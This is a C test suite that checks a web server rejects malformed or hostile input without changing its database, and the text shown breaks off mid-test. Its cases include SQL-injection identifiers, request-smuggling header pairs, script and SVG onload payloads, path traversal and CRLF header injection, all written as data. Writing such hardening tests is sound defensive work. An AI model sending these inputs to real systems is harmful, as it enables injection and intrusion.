/* test_bad_input.c: the bad-input catalogue against the running server.
 * Every case sends something malformed or hostile and asserts a clear 4xx
 * (naming the field where there is one: the API's 422 {"errors":[{"field"
 * ...}]}, the HTML form's error summary) and that the database did not
 * change (h_db_digest before == after). Malformed HTTP goes through a raw
 * socket (raw_http) because libcurl normalises requests. Hostile text that
 * is accepted must come out inert: escaped in pages, neutralised in CSV.
 * The server runs with a small max_body (1 MB) so the size cap is cheap to
 * hit. Related: test_intake.c (form and API behaviour), test_accounts.c
 * (CSRF, Origin, throttling), test_resilience.sh (slow clients). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "buf.h"
#include "harness.h"

#include <arpa/inet.h>
#include <cjson/cJSON.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define MAX_BODY 1000000

static h_server srv;
static h_session ann, pat;
static char ann_token[128];
static int ncases; /* catalogue cases run, reported at the end */

static int up(void **state)
{
    *state = &srv;
    h_server_start(&srv, "max_body = 1000000\n");
    h_world(&srv, "acme acme-qa ann+ pat+", &ann, &pat);
    h_token(&srv, "ann@acme.example", "tests", ann_token, sizeof ann_token);
    return 0;
}

static int down(void **state)
{
    fprintf(stderr, "bad input: %d catalogue cases\n", ncases);
    return h_group_down(state);
}

/* ---- raw HTTP ------------------------------------------------------------ */

typedef struct raw_resp {
    int status; /* 0: closed without an answer */
    char *text; /* headers and body received (NUL-terminated) */
    size_t len;
    int closed;  /* the server closed the connection */
    size_t sent; /* bytes of the request the server took */
} raw_resp;

static int raw_connect(void)
{
    struct sockaddr_in sin;
    struct timeval tv = {5, 0};
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    assert_true(fd >= 0);
    memset(&sin, 0, sizeof sin);
    sin.sin_family = AF_INET;
    sin.sin_port = htons((uint16_t)srv.port);
    sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&sin, sizeof sin) < 0)
        fail_msg("connect: %s", strerror(errno));
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    return fd;
}

/* strstr ignoring ASCII case. */
static const char *ci_strstr(const char *hay, const char *needle)
{
    size_t n = strlen(needle);

    for (; *hay; hay++)
        if (!strncasecmp(hay, needle, n))
            return hay;
    return NULL;
}

/* Reads one response (headers, then Content-Length bytes of body) or until
 * the server closes or 5 s pass. */
static void raw_read(int fd, raw_resp *r)
{
    char chunk[8192];

    for (;;) {
        ssize_t n = recv(fd, chunk, sizeof chunk, 0);
        const char *end;
        if (n <= 0) {
            r->closed = n == 0 || errno == ECONNRESET;
            break;
        }
        r->text = realloc(r->text, r->len + (size_t)n + 1);
        memcpy(r->text + r->len, chunk, (size_t)n);
        r->len += (size_t)n;
        r->text[r->len] = '\0';
        end = strstr(r->text, "\r\n\r\n");
        if (end) {
            const char *cl = ci_strstr(r->text, "\r\nContent-Length:");
            long want = cl && cl < end ? strtol(cl + 17, NULL, 10) : 0;
            if (r->len >= (size_t)(end + 4 - r->text) + (size_t)want)
                break;
        }
    }
    if (!r->text)
        r->text = calloc(1, 1);
    if (!strncmp(r->text, "HTTP/1.", 7) && r->len > 12)
        r->status = (int)strtol(r->text + 9, NULL, 10);
}

/* One raw request: sends it (stopping quietly when the server stops
 * taking bytes), then reads the answer. */
static void raw_http(raw_resp *r, const void *data, size_t len)
{
    int fd = raw_connect();
    const char *p = data;

    memset(r, 0, sizeof *r);
    while (r->sent < len) {
        ssize_t n = send(fd, p + r->sent, len - r->sent, MSG_NOSIGNAL);
        if (n <= 0)
            break;
        r->sent += (size_t)n;
    }
    raw_read(fd, r);
    close(fd);
}

static void raw_free(raw_resp *r)
{
    free(r->text);
    memset(r, 0, sizeof *r);
}

/* ---- the catalogue's bookkeeping ---------------------------------------- */

static char *digest_before;

static void case_begin(void)
{
    free(digest_before);
    digest_before = h_db_digest(&srv);
}

/* The database is exactly as before the case, and the server is up. */
static void case_end(const char *what)
{
    char *after = h_db_digest(&srv);
    h_resp r;

    if (strcmp(digest_before, after))
        fail_msg("%s: the database changed", what);
    free(after);
    h_get(&r, &srv, NULL, "/healthz");
    if (r.status != 200)
        fail_msg("%s: the server is unhealthy afterwards (%ld)", what,
                 r.status);
    h_resp_free(&r);
    ncases++;
}

static void expect_status(const char *what, long got, long want,
                          const char *body)
{
    if (got != want)
        fail_msg("%s: status %ld, wanted %ld: %.400s", what, got, want,
                 body ? body : "");
}

/* ---- request bodies ------------------------------------------------------ */

/* A valid API submission (the control case proves it is accepted). */
static const char api_base[] =
    "{\"instance\":\"acme-qa\",\"project_manager\":\"pat@platform.example\","
    "\"title\":\"Loyalty\",\"summary\":\"We start loyalty.\","
    "\"items\":[{\"kind\":\"new_table\",\"table\":\"loyalty_members\","
    "\"description\":\"One row per member.\",\"source\":\"api\","
    "\"cadence\":\"daily\",\"campaign_dependency\":\"optional\","
    "\"columns\":[{\"name\":\"member_id\",\"type\":\"bigint\"},"
    "{\"name\":\"tier\",\"type\":\"string(20)\"}]}]}";

static void post_api(h_resp *r, const char *body, size_t len,
                     const char *content_type)
{
    char auth[200];
    const char *hdrs[2] = {auth, NULL};

    snprintf(auth, sizeof auth, "Authorization: Bearer %s", ann_token);
    h_request(r, &srv, NULL, "POST", "/api/v1/requests", content_type, body,
              len, hdrs);
}

/* 422 with an error on field (exact path), or on any field when field is
 * NULL. */
static void expect_api_422(const char *what, const h_resp *r, const char *field)
{
    cJSON *j, *e;
    int found = 0;

    expect_status(what, r->status, 422, r->body);
    j = cJSON_Parse(r->body);
    if (!j)
        fail_msg("%s: not JSON: %.200s", what, r->body);
    cJSON_ArrayForEach(e, cJSON_GetObjectItem(j, "errors"))
    {
        const cJSON *f = cJSON_GetObjectItem(e, "field");
        if (!cJSON_IsString(f) ||
            !cJSON_IsString(cJSON_GetObjectItem(e, "message")))
            fail_msg("%s: an error without field/message", what);
        if (!field || !strcmp(f->valuestring, field))
            found = 1;
    }
    if (!found)
        fail_msg("%s: no error on \"%s\": %.600s", what, field ? field : "*",
                 r->body);
    cJSON_Delete(j);
}

/* api_base with one change: the value at path (dotted, [n] for arrays)
 * replaced by the JSON text value. */
static char *api_with(const char *path, const char *value)
{
    cJSON *root = cJSON_Parse(api_base), *node = root;
    cJSON *v = cJSON_ParseWithOpts(value, NULL, 1);
    char key[64], *out;
    const char *p = path;

    assert_non_null(v);
    for (;;) {
        size_t n = strcspn(p, ".[");
        snprintf(key, sizeof key, "%.*s", (int)n, p);
        p += n;
        if (*p == '\0') {
            if (cJSON_GetObjectItemCaseSensitive(node, key))
                cJSON_ReplaceItemInObjectCaseSensitive(node, key, v);
            else
                cJSON_AddItemToObject(node, key, v);
            break;
        }
        node = cJSON_GetObjectItem(node, key);
        while (*p == '[') {
            int idx = (int)strtol(p + 1, NULL, 10);
            p = strchr(p, ']') + 1;
            if (*p == '\0') {
                cJSON_ReplaceItemInArray(node, idx, v);
                goto done;
            }
            node = cJSON_GetArrayItem(node, idx);
        }
        if (*p == '.')
            p++;
    }
done:
    out = cJSON_PrintUnformatted(root);
    cJSON_Delete(root);
    return out;
}

/* A valid HTML-form submission (urlencoded), plus extra (already encoded,
 * may be ""). */
static const char form_base[] =
    "instance=acme-qa&project_manager=pat%40platform.example"
    "&summary=We+start+loyalty."
    "&items%5B0%5D.kind=new_table&items%5B0%5D.table=loyalty_members"
    "&items%5B0%5D.description=One+row&items%5B0%5D.source=api"
    "&items%5B0%5D.cadence=daily&items%5B0%5D.campaign_dependency=optional"
    "&items%5B0%5D.columns%5B0%5D.name=member_id"
    "&items%5B0%5D.columns%5B0%5D.type=bigint";

static void post_form_raw(h_resp *r, const char *title_enc, const char *extra)
{
    buf b = {0};

    buf_puts(&b, form_base);
    if (title_enc) {
        buf_puts(&b, "&title=");
        buf_puts(&b, title_enc);
    }
    if (extra && *extra) {
        buf_putc(&b, '&');
        buf_puts(&b, extra);
    }
    h_post_form(r, &srv, &ann, "/requests", buf_cstr(&b));
    buf_dispose(&b);
}

/* 422 page whose error summary links to the field. */
static void expect_form_422(const char *what, const h_resp *r,
                            const char *field)
{
    char anchor[200];

    expect_status(what, r->status, 422, r->body);
    if (!strstr(r->body, "class=\"error-summary\""))
        fail_msg("%s: no error summary", what);
    snprintf(anchor, sizeof anchor, "<li><a href=\"#%s\">", field);
    if (!strstr(r->body, anchor))
        fail_msg("%s: the summary does not name %s", what, field);
}

/* ---- the control cases: what is valid is accepted ------------------------ */

static void test_bad_input__controls_are_accepted(void **state)
{
    h_resp r;

    (void)state;
    post_api(&r, api_base, strlen(api_base), "application/json");
    expect_status("valid API submission", r.status, 201, r.body);
    h_resp_free(&r);
    post_form_raw(&r, "Loyalty", NULL);
    expect_status("valid form submission", r.status, 303, r.body);
    h_resp_free(&r);
}

/* ---- HTTP framing (raw sockets) ----------------------------------------- */

typedef struct raw_case {
    const char *what;
    const char *request; /* sent as is */
    int want;            /* status */
} raw_case;

static void test_bad_input__http_framing(void **state)
{
    static const raw_case cases[] = {
        {"bad Content-Length",
         "POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: "
         "application/json\r\nContent-Length: 12abc\r\n\r\n{}",
         400},
        {"negative Content-Length",
         "POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nContent-Type: "
         "application/json\r\nContent-Length: -5\r\n\r\n{}",
         400},
        {"duplicate Content-Length",
         "POST /signin HTTP/1.1\r\nHost: x\r\nContent-Type: "
         "application/x-www-form-urlencoded\r\nContent-Length: 3\r\n"
         "Content-Length: 40\r\n\r\na=b",
         400},
        {"Content-Length with Transfer-Encoding",
         "POST /signin HTTP/1.1\r\nHost: x\r\nContent-Type: "
         "application/x-www-form-urlencoded\r\nContent-Length: 3\r\n"
         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         400},
        {"no Host header", "GET /healthz HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
         400},
        {"unknown method", "BREW /requests HTTP/1.1\r\nHost: x\r\n\r\n", 405},
        {"method a route does not take",
         "DELETE /requests/new HTTP/1.1\r\nHost: x\r\n\r\n", 405},
        {"header line without a colon",
         "GET /healthz HTTP/1.1\r\nHost: x\r\nnonsense\r\n\r\n", 400},
    };

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        raw_resp r;
        case_begin();
        raw_http(&r, cases[i].request, strlen(cases[i].request));
        expect_status(cases[i].what, r.status, cases[i].want, r.text);
        raw_free(&r);
        case_end(cases[i].what);
    }
}

/* A declared body over max_body is refused from its headers: the answer
 * comes although not one byte of the body was sent. */
static void test_bad_input__body_over_the_cap_refused_unread(void **state)
{
    char req[512];
    raw_resp r;

    (void)state;
    case_begin();
    snprintf(req, sizeof req,
             "POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nAuthorization: "
             "Bearer %s\r\nContent-Type: application/json\r\n"
             "Content-Length: %d\r\n\r\n",
             ann_token, MAX_BODY * 5);
    raw_http(&r, req, strlen(req));
    expect_status("body over the cap", r.status, 413, r.text);
    raw_free(&r);
    case_end("body over the cap");
}

/* An endless chunked body: the server stops taking it soon after max_body
 * (413 or a closed connection) instead of reading the 64 MB offered. */
static void test_bad_input__endless_chunked_body(void **state)
{
    static const char head[] =
        "POST /signin HTTP/1.1\r\nHost: x\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked"
        "\r\n\r\n";
    char chunk[4096 + 16];
    size_t sent = 0, limit = (size_t)MAX_BODY * 64;
    int fd = raw_connect(), stopped = 0;
    raw_resp r;

    (void)state;
    case_begin();
    memset(&r, 0, sizeof r);
    snprintf(chunk, sizeof chunk, "1000\r\n");
    memset(chunk + 6, 'a', 4096);
    memcpy(chunk + 6 + 4096, "\r\n", 2);
    assert_true(send(fd, head, strlen(head), MSG_NOSIGNAL) > 0);
    while (sent < limit) {
        struct pollfd pfd = {fd, POLLIN, 0};
        ssize_t n;
        if (poll(&pfd, 1, 0) > 0) {
            stopped = 1;
            break;
        }
        n = send(fd, chunk, 4096 + 8, MSG_NOSIGNAL);
        if (n <= 0) {
            stopped = 1;
            break;
        }
        sent += (size_t)n;
    }
    if (!stopped)
        fail_msg("endless chunked body: %zu bytes taken", sent);
    raw_read(fd, &r);
    close(fd);
    /* MHD 0.9.75 drops the queued 413 when it closes mid-body; either way
       the server stopped reading. */
    if (r.status != 413 && !(r.status == 0 && r.closed))
        fail_msg("endless chunked body: status %d", r.status);
    /* what the server read, plus what the kernel buffers held */
    if (sent > (size_t)MAX_BODY * 24)
        fail_msg("endless chunked body: %zu bytes were taken", sent);
    raw_free(&r);
    case_end("endless chunked body");
}

static void test_bad_input__oversized_headers_and_url(void **state)
{
    buf b = {0};
    raw_resp r;

    (void)state;
    case_begin();
    buf_puts(&b, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: ");
    for (int i = 0; i < 100000; i++)
        buf_putc(&b, 'a');
    buf_puts(&b, "\r\n\r\n");
    raw_http(&r, b.data, b.len);
    expect_status("oversized header", r.status, 431, r.text);
    raw_free(&r);
    case_end("oversized header");

    case_begin();
    buf_reset(&b);
    buf_puts(&b, "GET /requests/");
    for (int i = 0; i < 100000; i++)
        buf_putc(&b, '1');
    buf_puts(&b, " HTTP/1.1\r\nHost: x\r\n\r\n");
    raw_http(&r, b.data, b.len);
    expect_status("oversized URL", r.status, 414, r.text);
    raw_free(&r);
    case_end("oversized URL");
    buf_dispose(&b);
}

/* ---- content types and multipart ---------------------------------------- */

static void test_bad_input__wrong_content_types(void **state)
{
    h_resp r;
    char csrf[120];
    const char *hdrs[2] = {csrf, NULL};

    (void)state;
    snprintf(csrf, sizeof csrf, "X-CSRF-Token: %s", ann.csrf);
    case_begin();
    h_request(&r, &srv, &ann, "POST", "/requests", "text/plain", "title=x", 7,
              hdrs);
    expect_status("form as text/plain", r.status, 415, r.body);
    h_resp_free(&r);
    case_end("form as text/plain");

    case_begin();
    /* The form parser runs before routing and finds no form in JSON
       text: 400, as JSON. */
    post_api(&r, api_base, strlen(api_base),
             "application/x-www-form-urlencoded");
    expect_status("API as urlencoded", r.status, 400, r.body);
    assert_non_null(strstr(r.body, "{\"error\":"));
    h_resp_free(&r);
    case_end("API as urlencoded");

    case_begin();
    post_api(&r, api_base, strlen(api_base), "text/json");
    expect_status("API as text/json", r.status, 415, r.body);
    h_resp_free(&r);
    case_end("API as text/json");
}

static void multipart(h_resp *r, const char *content_type, const char *body,
                      size_t len)
{
    h_request(r, &srv, &ann, "POST", "/requests", content_type, body, len,
              NULL);
}

static void test_bad_input__malformed_multipart(void **state)
{
    static const char ok_part[] =
        "--BB\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nx\r\n";
    buf b = {0};
    h_resp r;

    (void)state;
    /* The CSRF token travels in the body; a body that cannot be read
       gives 400 before anything else. */
    case_begin();
    buf_puts(&b, ok_part);
    buf_puts(&b, "--BB--\r\n");
    multipart(&r, "multipart/form-data", b.data, b.len);
    expect_status("multipart without boundary", r.status, 400, r.body);
    h_resp_free(&r);
    case_end("multipart without boundary");

    case_begin();
    buf_reset(&b);
    buf_puts(&b, "--BB\r\nContent-Disposition: form-data; name=\"csrf\"\r\n"
                 "\r\n");
    buf_puts(&b, ann.csrf);
    buf_puts(&b, "\r\n");
    buf_puts(&b, ok_part);
    buf_puts(&b, "--BB\r\nContent-Disposition: form-data; name=\"summary\""
                 "\r\n\r\nnever ends");
    multipart(&r, "multipart/form-data; boundary=BB", b.data, b.len);
    /* upload.c: the form parser finds the body unterminated: 400 */
    if (r.status != 400)
        fail_msg("unterminated multipart: %ld", r.status);
    h_resp_free(&r);
    case_end("unterminated multipart");

    case_begin();
    buf_reset(&b);
    buf_puts(&b, "--B");
    buf_putc(&b, '\0');
    buf_puts(&b, "B\r\nContent-Disposition: form-data; name=\"title\"\r\n"
                 "\r\nx\r\n--B");
    buf_putc(&b, '\0');
    buf_puts(&b, "B--\r\n");
    {
        /* the boundary parameter itself holds a NUL: raw socket */
        buf req = {0};
        raw_resp rr;
        buf_appendf(&req,
                    "POST /requests HTTP/1.1\r\nHost: x\r\nCookie: %s\r\n"
                    "Content-Type: multipart/form-data; boundary=B",
                    ann.cookie);
        buf_putc(&req, '\0');
        buf_appendf(&req, "B\r\nContent-Length: %zu\r\n\r\n", b.len);
        buf_append(&req, b.data, b.len);
        raw_http(&rr, req.data, req.len);
        if (rr.status != 400)
            fail_msg("NUL in the boundary: %d", rr.status);
        raw_free(&rr);
        buf_dispose(&req);
    }
    case_end("NUL in the boundary");
    buf_dispose(&b);
}

/* ---- form fields --------------------------------------------------------- */

static void test_bad_input__form_fields(void **state)
{
    static const struct {
        const char *what, *title, *extra, *field;
    } cases[] = {
        {"duplicate single-valued field", "One", "title=Two", "title"},
        {"invalid UTF-8", "Bad%C3%28byte", "", "title"},
        {"overlong UTF-8 slash", "a%C0%AFb", "", "title"},
        {"NUL byte", "before%00after", "", "title"},
        {"control character", "bell%07", "", "title"},
        {"identifier with a quote", "T",
         "items%5B0%5D.columns%5B1%5D.name=a%22b"
         "&items%5B0%5D.columns%5B1%5D.type=text",
         "items[0].columns[1].name"},
        {"table name with a semicolon", "T",
         "items%5B1%5D.kind=new_table"
         "&items%5B1%5D.table=x%3Bdrop+table+users"
         "&items%5B1%5D.description=d&items%5B1%5D.source=api"
         "&items%5B1%5D.cadence=daily"
         "&items%5B1%5D.campaign_dependency=optional"
         "&items%5B1%5D.columns%5B0%5D.name=id"
         "&items%5B1%5D.columns%5B0%5D.type=bigint",
         "items[1].table"},
        {"row index far out of range", "T",
         "items%5B0%5D.columns%5B99999999999%5D.name=x", NULL},
        {"unknown key inside an item", "T", "items%5B0%5D.evil=1", NULL},
    };
    h_resp r;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        case_begin();
        post_form_raw(&r, cases[i].title, cases[i].extra);
        if (cases[i].field) {
            expect_form_422(cases[i].what, &r, cases[i].field);
        } else {
            if (r.status != 422)
                fail_msg("%s: status %ld", cases[i].what, r.status);
            assert_non_null(strstr(r.body, "class=\"error-summary\""));
        }
        h_resp_free(&r);
        case_end(cases[i].what);
    }
}

/* ---- identifiers through the API ----------------------------------------- */

static void test_bad_input__identifiers(void **state)
{
    static const struct {
        const char *what, *value;
    } names[] = {
        {"quote", "\"member\\\"id\""},
        {"backtick", "\"member`id\""},
        {"semicolon", "\"id; DROP TABLE users; --\""},
        {"space", "\"member id\""},
        {"leading digit", "\"1member\""},
        {"Cyrillic look-alike", "\"\\u043Cember_id\""},
        {"fullwidth look-alike", "\"\\uFF4Dember_id\""},
        {"zero-width joiner", "\"member\\u200Did\""},
        {"over-long", "\"a234567890123456789012345678901234567890123456789"
                      "0123456789012345\""},
        {"empty", "\"\""},
    };
    h_resp r;
    char *body;

    (void)state;
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        char what[96];
        /* as a column name */
        snprintf(what, sizeof what, "column name: %s", names[i].what);
        case_begin();
        body = api_with("items[0].columns[1].name", names[i].value);
        post_api(&r, body, strlen(body), "application/json");
        expect_api_422(what, &r, "items[0].columns[1].name");
        h_resp_free(&r);
        cJSON_free(body);
        case_end(what);
        /* as a table name */
        snprintf(what, sizeof what, "table name: %s", names[i].what);
        case_begin();
        body = api_with("items[0].table", names[i].value);
        post_api(&r, body, strlen(body), "application/json");
        expect_api_422(what, &r, "items[0].table");
        h_resp_free(&r);
        cJSON_free(body);
        case_end(what);
    }
    /* Reserved words are quoted, not refused; a name the request's
       (PostgreSQL) instances refuse even quoted is. */
    case_begin();
    body = api_with("items[0].columns[1].name", "\"ctid\"");
    post_api(&r, body, strlen(body), "application/json");
    expect_api_422("column name: system column", &r,
                   "items[0].columns[1].name");
    h_resp_free(&r);
    cJSON_free(body);
    case_end("column name: system column");
}

static void test_bad_input__ten_thousand_columns(void **state)
{
    buf cols = {0};
    char *body;
    h_resp r;

    (void)state;
    case_begin();
    buf_putc(&cols, '[');
    for (int i = 0; i < 10000; i++)
        buf_appendf(&cols, "%s{\"name\":\"c%d\",\"type\":\"text\"}",
                    i ? "," : "", i);
    buf_putc(&cols, ']');
    body = api_with("items[0].columns", buf_cstr(&cols));
    assert_true(strlen(body) < MAX_BODY);
    post_api(&r, body, strlen(body), "application/json");
    expect_api_422("10,000 columns", &r, "items[0].columns");
    h_resp_free(&r);
    cJSON_free(body);
    buf_dispose(&cols);
    case_end("10,000 columns");
}

/* ---- JSON ---------------------------------------------------------------- */

static void test_bad_input__json(void **state)
{
    static const struct {
        const char *what, *path, *value, *field;
    } edits[] = {
        {"number out of range", "items[0].late_after_minutes", "1e300",
         "items[0].late_after_minutes"},
        {"negative count", "items[0].late_after_minutes", "-5",
         "items[0].late_after_minutes"},
        {"fraction", "items[0].late_after_minutes", "1.5",
         "items[0].late_after_minutes"},
        {"string for a number", "items[0].late_after_minutes", "\"120\"",
         "items[0].late_after_minutes"},
        {"number for a string", "title", "42", "title"},
        {"object for a string", "summary", "{\"a\":1}", "summary"},
        {"array for an object", "items[0]", "[1,2]", "items[0]"},
        {"string for a boolean", "consent_related", "\"yes\"",
         "consent_related"},
        {"unknown kind", "items[0].kind", "\"drop_table\"", "items[0].kind"},
        {"unknown type", "items[0].columns[0].type", "\"varchar(20); drop\"",
         "items[0].columns[0].type"},
    };
    static const struct {
        const char *what, *body, *field;
    } raw[] = {
        {"empty body", "", ""},
        {"duplicate key", "{\"title\":\"a\",\"title\":\"b\"}", "title"},
        {"trailing garbage", "{\"title\":\"a\"} {}", ""},
        {"not an object", "[1,2,3]", ""},
        {"truncated", "{\"title\":\"a", ""},
        {"single quotes", "{'title':'a'}", ""},
        {"comment", "{/* hi */\"title\":\"a\"}", ""},
        {"invalid UTF-8", "{\"title\":\"\xc3\x28\"}", "title"},
        {"raw NUL", "{\"title\":\"a\0b\"}", "title"},
        {"escaped NUL", "{\"title\":\"a\\u0000b\"}", "title"},
        {"lone surrogate", "{\"title\":\"a\\uD800b\"}", "title"},
    };
    h_resp r;

    (void)state;
    for (size_t i = 0; i < sizeof edits / sizeof *edits; i++) {
        char *body = api_with(edits[i].path, edits[i].value);
        case_begin();
        post_api(&r, body, strlen(body), "application/json");
        expect_api_422(edits[i].what, &r, edits[i].field);
        h_resp_free(&r);
        cJSON_free(body);
        case_end(edits[i].what);
    }
    for (size_t i = 0; i < sizeof raw / sizeof *raw; i++) {
        size_t len = strlen(raw[i].body);
        if (!strcmp(raw[i].what, "raw NUL"))
            len = sizeof "{\"title\":\"a\0b\"}" - 1;
        case_begin();
        post_api(&r, raw[i].body, len, "application/json");
        /* The body as a whole: field "" (or the key concerned). */
        if (r.status == 400) {
            /* acceptable only with a JSON error object */
            assert_non_null(strstr(r.body, "\"error\""));
        } else {
            expect_api_422(raw[i].what, &r, raw[i].field);
        }
        h_resp_free(&r);
        case_end(raw[i].what);
    }
}

static void test_bad_input__json_nested_100000_deep(void **state)
{
    size_t depth = 100000;
    char *body = malloc(depth * 2 + 32);
    size_t n = 0;
    h_resp r;

    (void)state;
    case_begin();
    n += (size_t)snprintf(body, 32, "{\"title\":");
    for (size_t i = 0; i < depth; i++)
        body[n++] = '[';
    for (size_t i = 0; i < depth; i++)
        body[n++] = ']';
    body[n++] = '}';
    post_api(&r, body, n, "application/json");
    expect_status("100,000 deep", r.status, 422, r.body);
    h_resp_free(&r);
    free(body);
    case_end("JSON nested 100,000 deep");
}

/* ---- attachments ----------------------------------------------------------
 */

#define BOUNDARY "----hardeningboundary9f8e7d"

static void upload(h_resp *r, const char *filename, size_t namelen,
                   const char *type, const char *data, size_t len)
{
    buf b = {0};
    char *fields = NULL;
    const char *p;

    buf_puts(&b, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
                 "name=\"csrf\"\r\n\r\n");
    buf_puts(&b, ann.csrf);
    buf_puts(&b, "\r\n");
    /* the valid form as parts */
    fields = strdup(form_base);
    for (p = fields; *p; p += strcspn(p, "&") + (p[strcspn(p, "&")] != 0)) {
        const char *eq = strchr(p, '=');
        size_t vlen = strcspn(eq + 1, "&");
        char name[200], value[200];
        snprintf(name, sizeof name, "%.*s", (int)(eq - p), p);
        snprintf(value, sizeof value, "%.*s", (int)vlen, eq + 1);
        /* undo the little URL encoding form_base uses */
        for (char *s = name; *s; s++)
            if (s[0] == '%' && s[1] == '5') {
                *s = s[2] == 'B' ? '[' : ']';
                memmove(s + 1, s + 3, strlen(s + 3) + 1);
            }
        for (char *s = value; *s; s++) {
            if (*s == '+')
                *s = ' ';
            if (s[0] == '%' && s[1] == '4' && s[2] == '0') {
                *s = '@';
                memmove(s + 1, s + 3, strlen(s + 3) + 1);
            }
        }
        buf_puts(&b, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
                     "name=\"");
        buf_puts(&b, name);
        buf_puts(&b, "\"\r\n\r\n");
        buf_puts(&b, value);
        buf_puts(&b, "\r\n");
    }
    free(fields);
    buf_puts(&b, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
                 "name=\"title\"\r\n\r\nWith a file\r\n");
    buf_puts(&b, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
                 "name=\"attachments\"; filename=\"");
    buf_append(&b, filename, namelen);
    buf_puts(&b, "\"\r\nContent-Type: ");
    buf_puts(&b, type);
    buf_puts(&b, "\r\n\r\n");
    buf_append(&b, data, len);
    buf_puts(&b, "\r\n--" BOUNDARY "--\r\n");
    h_request(r, &srv, &ann, "POST", "/requests",
              "multipart/form-data; boundary=" BOUNDARY, b.data, b.len, NULL);
    buf_dispose(&b);
}

static void test_bad_input__attachments(void **state)
{
    static const char csv[] = "member_id\n1\n";
    static const char html[] = "<!doctype html><script>alert(1)</script>";
    static const char svg[] =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    static const char xhtml[] = "id\n1\n<script>alert(1)</script>\n";
    static const struct {
        const char *what, *name;
        size_t namelen;
        const char *type, *data;
        size_t len;
    } cases[] = {
        {"name is only ../", "../../", 6, "text/csv", csv, sizeof csv - 1},
        {"name is ..", "..", 2, "text/csv", csv, sizeof csv - 1},
        {"NUL in the name", "a\0.exe.csv", 10, "text/csv", csv, sizeof csv - 1},
        {"tab in the name", "a\tb.csv", 7, "text/csv", csv, sizeof csv - 1},
        {"HTML named .html", "page.html", 9, "text/html", html,
         sizeof html - 1},
        {"HTML named .csv", "page.csv", 8, "text/csv", html, sizeof html - 1},
        {"SVG named .svg", "logo.svg", 8, "image/svg+xml", svg, sizeof svg - 1},
        {"SVG named .txt", "logo.txt", 8, "text/plain", svg, sizeof svg - 1},
        {"script inside a CSV", "rows.csv", 8, "text/csv", xhtml,
         sizeof xhtml - 1},
        {"executable named .csv", "run.csv", 7, "text/csv", "MZ\x90\0\3", 5},
    };
    h_resp r;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        case_begin();
        upload(&r, cases[i].name, cases[i].namelen, cases[i].type,
               cases[i].data, cases[i].len);
        /* A NUL cuts the name inside MHD; whatever arrives must be
           refused, by the attachment check (422) or the body parser
           (400). */
        if (r.status == 400 && !strcmp(cases[i].what, "NUL in the name")) {
            h_resp_free(&r);
            case_end(cases[i].what);
            continue;
        }
        expect_form_422(cases[i].what, &r, "attachments");
        h_resp_free(&r);
        case_end(cases[i].what);
    }
}

/* Names that can be made safe are: path parts dropped, 300 characters cut
 * to 200 keeping the extension, CR/LF refused; the download's
 * Content-Disposition never carries a raw quote or line break. */
static void test_bad_input__attachment_names_sanitised(void **state)
{
    static const char csv[] = "member_id\n1\n";
    char longname[320], path[200], cd[600];
    h_resp r;
    long long id;
    int64_t aid;

    (void)state;
    /* CR/LF: refused, nothing stored */
    case_begin();
    upload(&r, "a\r\nX-Evil: 1.csv", 17, "text/csv", csv, sizeof csv - 1);
    expect_status("CR/LF in a file name", r.status, 422, r.body);
    h_resp_free(&r);
    case_end("CR/LF in a file name");

    upload(&r, "../..\\etc/evil.csv", 18, "text/csv", csv, sizeof csv - 1);
    expect_status("../ in a name", r.status, 303, r.body);
    id = h_created(&r);
    h_resp_free(&r);
    snprintf(path, sizeof path,
             "SELECT count(*) FROM attachments WHERE request_id = %lld AND "
             "filename = 'evil.csv'",
             id);
    assert_int_equal(h_db_int(&srv, path), 1);
    snprintf(path, sizeof path,
             "SELECT id FROM attachments WHERE request_id = %lld", id);
    aid = h_db_int(&srv, path);
    snprintf(path, sizeof path, "/requests/%lld/attachments/%lld", id,
             (long long)aid);
    h_get(&r, &srv, &ann, path);
    expect_status("download", r.status, 200, NULL);
    assert_true(h_resp_header(&r, "Content-Disposition", cd, sizeof cd));
    assert_null(strstr(cd, ".."));
    assert_non_null(strstr(r.headers, "X-Content-Type-Options: nosniff"));
    h_resp_free(&r);

    memset(longname, 'n', 296);
    memcpy(longname + 296, ".csv", 5);
    upload(&r, longname, 300, "text/csv", csv, sizeof csv - 1);
    expect_status("300-character name", r.status, 303, r.body);
    id = h_created(&r);
    h_resp_free(&r);
    snprintf(path, sizeof path,
             "SELECT length(filename) FROM attachments WHERE request_id = "
             "%lld AND filename LIKE '%%.csv'",
             id);
    assert_int_equal(h_db_int(&srv, path), 200);
}

/* ---- passwords ------------------------------------------------------------
 */

static void test_bad_input__huge_passwords(void **state)
{
    size_t big = 10u * 1024 * 1024, mid = 900000;
    char *body = malloc(big + 64);
    h_resp r;
    struct timespec t0, t1;

    (void)state;
    case_begin();
    memcpy(body, "email=ann%40acme.example&password=", 34);
